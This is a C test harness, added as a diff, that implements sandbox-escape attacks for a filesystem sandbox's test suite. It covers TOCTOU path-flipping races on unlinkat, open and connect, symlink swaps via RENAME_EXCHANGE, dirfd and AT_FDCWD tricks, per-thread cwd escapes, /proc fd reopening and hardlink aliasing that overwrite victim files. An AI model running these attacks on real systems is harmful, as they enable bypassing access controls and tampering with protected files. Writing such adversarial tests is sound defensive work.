@@ -1,0 +1,535 @@
+/* Attack programs for tests/attacks/test_toctou_and_paths.py (threat catalog A/B:
+ * TOC-01, PATH-01..04). Each mode is one attack; every attempted step prints
+ *
+ *     step=<name> rc=<return value> errno=<ERRNO name or 0>
+ *
+ * and race modes print one summary line of key=value counters. The same binary is run
+ * natively (the attack must work there) and under the sandbox (it must not).
+ *
+ *   race-unlink  OK VICTIM ITERS SECONDS thread|fork   flip unlinkat's path buffer
+ *   race-open    OK VICTIM ITERS SECONDS thread|fork   flip open(O_WRONLY|O_TRUNC)'s path
+ *   race-connect OKSOCK DENIEDSOCK ITERS SECONDS       flip connect's sockaddr_un
+ *   symlink-race-open   VICTIM ITERS SECONDS           ./link <-> ./link_alt (RENAME_EXCHANGE)
+ *   dirlink-race-unlink VICTIM ITERS SECONDS           ./dirlink <-> ./dirlink_alt; unlink dirlink/victim
+ *   dirfd OUTSIDE_DIR OP                               *at() on an O_PATH fd of a foreign dir
+ *   thread-cwd OUTSIDE_DIR OP                          a thread with unshare(CLONE_FS) + chdir
+ *   path-op OP CWD PATH                                OP on PATH ({pid}/{tid} substituted)
+ *   fd-reopen VICTIM rdonly|opath PREFIX wronly-trunc|rdwr
+ *   link-write VICTIM ALIAS link|linkat-proc|linkat-empty
+ *   rename SRC DST [renameat2-flags]
+ *   symlink-write TARGET LINKPATH trunc|creat
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdatomic.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/prctl.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#ifndef RENAME_EXCHANGE
+#define RENAME_EXCHANGE (1 << 1)
+#endif
+
+static const char PAYLOAD[] = "PWNED by the attack\n";
+
+static double now(void)
+{
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return ts.tv_sec + ts.tv_nsec / 1e9;
+}
+
+static const char *ename(int e)
+{
+    const char *n = strerrorname_np(e);
+    return n ? n : "E?";
+}
+
+static long step(const char *name, long r)
+{
+    int e = errno;
+    printf("step=%s rc=%ld errno=%s\n", name, r, r < 0 ? ename(e) : "0");
+    fflush(stdout);
+    errno = e;
+    return r;
+}
+
+static void write_payload(const char *name, int fd)
+{
+    if (fd < 0)
+        return;
+    step(name, write(fd, PAYLOAD, sizeof PAYLOAD - 1));
+    close(fd);
+}
+
+static off_t size_of(const char *p)
+{
+    struct stat st;
+    return stat(p, &st) == 0 ? st.st_size : -1;
+}
+
+/* ---- path-buffer flipper: a thread, or a forked process sharing a MAP_SHARED page ---- */
+struct flip {
+    atomic_int stop;
+    size_t len;
+    char a[4096];
+    char b[4096];
+    char buf[4096];              /* what the syscall reads */
+};
+
+static void flip_loop(struct flip *f)
+{
+    while (!atomic_load_explicit(&f->stop, memory_order_relaxed)) {
+        memcpy(f->buf, f->a, f->len);
+        __asm__ volatile("" ::: "memory");
+        memcpy(f->buf, f->b, f->len);
+        __asm__ volatile("" ::: "memory");
+    }
+}
+
+static void *flip_thread(void *arg)
+{
+    flip_loop(arg);
+    return NULL;
+}
+
+struct flipper {
+    struct flip *f;
+    pthread_t th;
+    pid_t child;
+};
+
+static struct flip *flip_new(const void *a, const void *b, size_t len)
+{
+    struct flip *f = mmap(NULL, sizeof *f, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+    if (f == MAP_FAILED) {
+        perror("mmap");
+        exit(2);
+    }
+    memset(f, 0, sizeof *f);
+    f->len = len;
+    memcpy(f->a, a, len);
+    memcpy(f->b, b, len);
+    memcpy(f->buf, a, len);
+    return f;
+}
+
+static void flip_start(struct flipper *fl, const char *how)
+{
+    fl->child = -1;
+    if (!strcmp(how, "fork")) {
+        pid_t parent = getpid();
+        fl->child = fork();
+        if (fl->child == 0) {
+            prctl(PR_SET_PDEATHSIG, SIGKILL);
+            if (getppid() != parent)
+                _exit(0);
+            flip_loop(fl->f);
+            _exit(0);
+        }
+        if (fl->child < 0) {
+            perror("fork");
+            exit(2);
+        }
+    } else if (pthread_create(&fl->th, NULL, flip_thread, fl->f) != 0) {
+        perror("pthread_create");
+        exit(2);
+    }
+}
+
+static void flip_stop(struct flipper *fl)
+{
+    atomic_store(&fl->f->stop, 1);
+    if (fl->child > 0)
+        waitpid(fl->child, NULL, 0);
+    else
+        pthread_join(fl->th, NULL);
+}
+
+/* Two NUL-padded paths of the same buffer length. */
+static struct flip *flip_paths(const char *a, const char *b)
+{
+    char pa[4096] = {0}, pb[4096] = {0};
+    size_t la = strlen(a), lb = strlen(b);
+    if (la >= sizeof pa || lb >= sizeof pb)
+        exit(2);
+    memcpy(pa, a, la);
+    memcpy(pb, b, lb);
+    return flip_new(pa, pb, (la > lb ? la : lb) + 1);
+}
+
+/* ---- TOC-01: thread (or shared-memory process) swaps unlinkat's / open's path ---------- */
+static int race_path(int argc, char **argv, int do_open)
+{
+    if (argc < 7)
+        return 2;
+    const char *ok = argv[2], *victim = argv[3];
+    long iters = atol(argv[4]);
+    double deadline = now() + atof(argv[5]);
+    off_t vsize = size_of(victim);
+    struct flipper fl = {.f = flip_paths(ok, victim)};
+    long i, done = 0, denied = 0, enoent = 0, other = 0;
+    int victim_hit = 0;
+
+    flip_start(&fl, argv[6]);
+    for (i = 0; i < iters && now() < deadline; i++) {
+        if (do_open) {
+            int fd = open(fl.f->buf, O_WRONLY | O_TRUNC);
+            if (fd >= 0) {
+                if (write(fd, PAYLOAD, sizeof PAYLOAD - 1) < 0)
+                    other++;
+                close(fd);
+                done++;
+            } else if (errno == EACCES) denied++;
+            else if (errno == ENOENT) enoent++;
+            else other++;
+            if (size_of(victim) != vsize) { victim_hit = 1; i++; break; }
+        } else {
+            int fd = open(ok, O_WRONLY | O_CREAT, 0644);
+            if (fd >= 0)
+                close(fd);
+            long r = syscall(SYS_unlinkat, AT_FDCWD, fl.f->buf, 0);
+            if (r == 0) done++;
+            else if (errno == EACCES) denied++;
+            else if (errno == ENOENT) enoent++;
+            else other++;
+            if (access(victim, F_OK) != 0) { victim_hit = 1; i++; break; }
+        }
+    }
+    flip_stop(&fl);
+    printf("race iterations=%ld done=%ld denied=%ld enoent=%ld other=%ld victim_hit=%d\n",
+           i, done, denied, enoent, other, victim_hit);
+    return 0;
+}
+
+/* ---- TOC-01 on connect: the sockaddr flips between an allowed and a denied socket ------ */
+static atomic_long ok_accepts;
+
+static void *accept_loop(void *arg)
+{
+    int srv = (int)(intptr_t)arg;
+    for (;;) {
+        int c = accept(srv, NULL, NULL);
+        if (c < 0) {
+            if (errno == EINTR)
+                continue;
+            return NULL;
+        }
+        atomic_fetch_add(&ok_accepts, 1);
+        close(c);
+    }
+}
+
+static int race_connect(int argc, char **argv)
+{
+    if (argc < 6)
+        return 2;
+    const char *okp = argv[2], *deniedp = argv[3];
+    long iters = atol(argv[4]);
+    double deadline = now() + atof(argv[5]);
+    struct sockaddr_un a = {.sun_family = AF_UNIX}, b = {.sun_family = AF_UNIX};
+    if (strlen(okp) >= sizeof a.sun_path || strlen(deniedp) >= sizeof b.sun_path)
+        return 2;
+    strcpy(a.sun_path, okp);
+    strcpy(b.sun_path, deniedp);
+
+    unlink(okp);
+    int srv = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    if (step("bind-ok-server", bind(srv, (struct sockaddr *)&a, sizeof a)) < 0)
+        return 3;
+    if (step("listen", listen(srv, 1024)) < 0)
+        return 3;
+    pthread_t acc;
+    pthread_create(&acc, NULL, accept_loop, (void *)(intptr_t)srv);
+
+    struct flipper fl = {.f = flip_new(&a, &b, sizeof a)};
+    long i, connected = 0, denied = 0, other = 0, reached_denied = 0;
+    flip_start(&fl, "thread");
+    for (i = 0; i < iters && now() < deadline; i++) {
+        int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+        if (connect(s, (struct sockaddr *)fl.f->buf, sizeof a) == 0) {
+            struct sockaddr_un peer;
+            socklen_t pl = sizeof peer;
+            connected++;
+            memset(&peer, 0, sizeof peer);
+            if (getpeername(s, (struct sockaddr *)&peer, &pl) == 0 &&
+                strstr(peer.sun_path, "denied") != NULL)
+                reached_denied++;
+        } else if (errno == EPERM || errno == EACCES) denied++;
+        else other++;
+        close(s);
+        if (reached_denied) { i++; break; }
+    }
+    flip_stop(&fl);
+    printf("race iterations=%ld connected=%ld denied=%ld other=%ld reached_denied=%ld "
+           "ok_accepts=%ld\n", i, connected, denied, other, reached_denied,
+           atomic_load(&ok_accepts));
+    return 0;
+}
+
+/* ---- PATH-01: swap a symlink (or a directory symlink) with RENAME_EXCHANGE ------------- */
+struct xchg {
+    atomic_int stop;
+    const char *a, *b;
+    long swaps;
+};
+
+static void *xchg_loop(void *arg)
+{
+    struct xchg *x = arg;
+    while (!atomic_load(&x->stop))
+        if (syscall(SYS_renameat2, AT_FDCWD, x->a, AT_FDCWD, x->b, RENAME_EXCHANGE) == 0)
+            x->swaps++;
+    return NULL;
+}
+
+static int symlink_race(int argc, char **argv, int dir)
+{
+    if (argc < 5)
+        return 2;
+    const char *victim = argv[2];
+    long iters = atol(argv[3]);
+    double deadline = now() + atof(argv[4]);
+    off_t vsize = size_of(victim);
+    struct xchg x = {.a = dir ? "dirlink" : "link", .b = dir ? "dirlink_alt" : "link_alt"};
+    pthread_t th;
+    long i, done = 0, denied = 0, other = 0;
+    int victim_hit = 0;
+
+    pthread_create(&th, NULL, xchg_loop, &x);
+    for (i = 0; i < iters && now() < deadline; i++) {
+        if (dir) {
+            int fd = open("d/victim", O_WRONLY | O_CREAT, 0644);
+            if (fd >= 0)
+                close(fd);
+            if (unlink("dirlink/victim") == 0) done++;
+            else if (errno == EACCES) denied++;
+            else other++;
+            if (access(victim, F_OK) != 0) { victim_hit = 1; i++; break; }
+        } else {
+            int fd = open("link", O_WRONLY | O_TRUNC);
+            if (fd >= 0) {
+                if (write(fd, PAYLOAD, sizeof PAYLOAD - 1) < 0)
+                    other++;
+                close(fd);
+                done++;
+            } else if (errno == EACCES) denied++;
+            else other++;
+            if (size_of(victim) != vsize) { victim_hit = 1; i++; break; }
+        }
+    }
+    atomic_store(&x.stop, 1);
+    pthread_join(th, NULL);
+    printf("race iterations=%ld done=%ld denied=%ld other=%ld swaps=%ld victim_hit=%d\n",
+           i, done, denied, other, x.swaps, victim_hit);
+    return 0;
+}
+
+/* ---- PATH-02: dirfd of a directory outside the workspace, and the 32-bit AT_FDCWD ------ */
+static int dirfd_attack(int argc, char **argv)
+{
+    if (argc < 4)
+        return 2;
+    const char *dir = argv[2], *op = argv[3];
+    int dfd = open(dir, O_PATH | O_DIRECTORY);
+    if (step("open-dirfd", dfd) < 0)
+        return 3;
+    const unsigned long fdcwd32 = 0x00000000FFFFFF9CUL;        /* AT_FDCWD, not sign-extended */
+    const unsigned long junk_fd = 0xdead00000000UL | (unsigned)dfd; /* upper half ignored */
+
+    if (!strcmp(op, "unlinkat"))
+        step(op, syscall(SYS_unlinkat, dfd, "victim", 0));
+    else if (!strcmp(op, "openat-trunc"))
+        write_payload("write", step(op, syscall(SYS_openat, dfd, "victim", O_WRONLY | O_TRUNC)));
+    else if (!strcmp(op, "renameat"))
+        step(op, syscall(SYS_renameat, dfd, "victim", dfd, "renamed"));
+    else if (!strcmp(op, "renameat-into-workspace"))
+        step(op, syscall(SYS_renameat, dfd, "victim", AT_FDCWD, "stolen"));
+    else if (!strcmp(op, "renameat-over")) /* workspace file "evil" over dirfd/victim */
+        step(op, syscall(SYS_renameat, AT_FDCWD, "evil", dfd, "victim"));
+    else if (!strcmp(op, "fdcwd32-unlinkat")) {
+        if (step("chdir", chdir(dir)) < 0)
+            return 3;
+        step(op, syscall(SYS_unlinkat, fdcwd32, "victim", 0));
+    } else if (!strcmp(op, "fdcwd32-openat-trunc")) {
+        if (step("chdir", chdir(dir)) < 0)
+            return 3;
+        write_payload("write", step(op, syscall(SYS_openat, fdcwd32, "victim", O_WRONLY | O_TRUNC)));
+    } else if (!strcmp(op, "junkfd-unlinkat"))
+        step(op, syscall(SYS_unlinkat, junk_fd, "victim", 0));
+    else
+        return 2;
+    return 0;
+}
+
+/* ---- PATH-02: a thread with its own fs struct (unshare(CLONE_FS)) and cwd -------------- */
+struct tcwd {
+    const char *dir, *op;
+};
+
+static void *tcwd_thread(void *arg)
+{
+    struct tcwd *t = arg;
+    if (step("unshare-fs", unshare(CLONE_FS)) < 0)
+        return NULL;
+    if (step("thread-chdir", chdir(t->dir)) < 0)
+        return NULL;
+    if (!strcmp(t->op, "unlink"))
+        step(t->op, unlink("victim"));
+    else if (!strcmp(t->op, "open-trunc"))
+        write_payload("write", step(t->op, open("victim", O_WRONLY | O_TRUNC)));
+    else if (!strcmp(t->op, "rename"))
+        step(t->op, rename("victim", "renamed"));
+    return NULL;
+}
+
+static int thread_cwd(int argc, char **argv)
+{
+    if (argc < 4)
+        return 2;
+    struct tcwd t = {argv[2], argv[3]};
+    pthread_t th;
+    pthread_create(&th, NULL, tcwd_thread, &t);
+    pthread_join(th, NULL);
+    char cwd[4096];
+    if (getcwd(cwd, sizeof cwd))
+        printf("main-cwd=%s\n", cwd);
+    return 0;
+}
+
+/* ---- generic: OP on PATH, with {pid} and {tid} replaced by this process's ids ---------- */
+static void subst(char *out, size_t n, const char *in)
+{
+    char pid[32], tid[32];
+    snprintf(pid, sizeof pid, "%d", (int)getpid());
+    snprintf(tid, sizeof tid, "%d", (int)gettid());
+    size_t o = 0;
+    while (*in && o + 32 < n) {
+        if (!strncmp(in, "{pid}", 5)) { o += snprintf(out + o, n - o, "%s", pid); in += 5; }
+        else if (!strncmp(in, "{tid}", 5)) { o += snprintf(out + o, n - o, "%s", tid); in += 5; }
+        else out[o++] = *in++;
+    }
+    out[o] = 0;
+}
+
+static int path_op(int argc, char **argv)
+{
+    if (argc < 5)
+        return 2;
+    const char *op = argv[2];
+    char path[4096];
+    if (step("chdir", chdir(argv[3])) < 0)
+        return 3;
+    subst(path, sizeof path, argv[4]);
+    printf("path=%s\n", path);
+    if (!strcmp(op, "unlink"))
+        step(op, unlink(path));
+    else if (!strcmp(op, "open-trunc"))
+        write_payload("write", step(op, open(path, O_WRONLY | O_TRUNC)));
+    else if (!strcmp(op, "truncate"))
+        step(op, truncate(path, 0));
+    else if (!strcmp(op, "rename-away"))
+        step(op, rename(path, "stolen"));
+    else
+        return 2;
+    return 0;
+}
+
+/* ---- PATH-03: reopen a read-only / O_PATH fd for writing through a magic link ---------- */
+static int fd_reopen(int argc, char **argv)
+{
+    if (argc < 6)
+        return 2;
+    const char *victim = argv[2], *how = argv[3], *prefix = argv[4], *mode = argv[5];
+    int fd = open(victim, !strcmp(how, "opath") ? O_PATH : O_RDONLY);
+    if (step("open-victim", fd) < 0)
+        return 3;
+    char tmpl[4096], path[4096];
+    snprintf(tmpl, sizeof tmpl, "%s%d", prefix, fd);
+    subst(path, sizeof path, tmpl);
+    printf("path=%s\n", path);
+    int flags = !strcmp(mode, "rdwr") ? O_RDWR : O_WRONLY | O_TRUNC;
+    write_payload("write", step("reopen", open(path, flags)));
+    return 0;
+}
+
+/* ---- PATH-04: hardlink a protected file into the workspace, write through the alias ---- */
+static int link_write(int argc, char **argv)
+{
+    if (argc < 5)
+        return 2;
+    const char *victim = argv[2], *alias = argv[3], *how = argv[4];
+    if (!strcmp(how, "link"))
+        step("link", link(victim, alias));
+    else {
+        int fd = open(victim, O_RDONLY);
+        if (step("open-victim", fd) < 0)
+            return 3;
+        if (!strcmp(how, "linkat-proc")) {
+            char p[64];
+            snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
+            step("linkat", linkat(AT_FDCWD, p, AT_FDCWD, alias, AT_SYMLINK_FOLLOW));
+        } else
+            step("linkat", linkat(fd, "", AT_FDCWD, alias, AT_EMPTY_PATH));
+    }
+    write_payload("write", step("open-alias", open(alias, O_WRONLY | O_TRUNC)));
+    return 0;
+}
+
+static int do_rename(int argc, char **argv)
+{
+    if (argc < 4)
+        return 2;
+    unsigned flags = argc > 4 ? (unsigned)strtoul(argv[4], NULL, 0) : 0;
+    if (argc > 4)
+        step("renameat2", syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], flags));
+    else
+        step("rename", rename(argv[2], argv[3]));
+    return 0;
+}
+
+static int symlink_write(int argc, char **argv)
+{
+    if (argc < 5)
+        return 2;
+    step("symlink", symlink(argv[2], argv[3]));
+    int flags = !strcmp(argv[4], "creat") ? O_WRONLY | O_CREAT : O_WRONLY | O_TRUNC;
+    write_payload("write", step("open-link", open(argv[3], flags, 0644)));
+    return 0;
+}
+
+int main(int argc, char **argv)
+{
+    setvbuf(stdout, NULL, _IOLBF, 0);
+    if (argc < 2)
+        return 2;
+    const char *m = argv[1];
+    if (!strcmp(m, "race-unlink")) return race_path(argc, argv, 0);
+    if (!strcmp(m, "race-open")) return race_path(argc, argv, 1);
+    if (!strcmp(m, "race-connect")) return race_connect(argc, argv);
+    if (!strcmp(m, "symlink-race-open")) return symlink_race(argc, argv, 0);
+    if (!strcmp(m, "dirlink-race-unlink")) return symlink_race(argc, argv, 1);
+    if (!strcmp(m, "dirfd")) return dirfd_attack(argc, argv);
+    if (!strcmp(m, "thread-cwd")) return thread_cwd(argc, argv);
+    if (!strcmp(m, "path-op")) return path_op(argc, argv);
+    if (!strcmp(m, "fd-reopen")) return fd_reopen(argc, argv);
+    if (!strcmp(m, "link-write")) return link_write(argc, argv);
+    if (!strcmp(m, "rename")) return do_rename(argc, argv);
+    if (!strcmp(m, "symlink-write")) return symlink_write(argc, argv);
+    fprintf(stderr, "unknown mode %s\n", m);
+    return 2;
+}
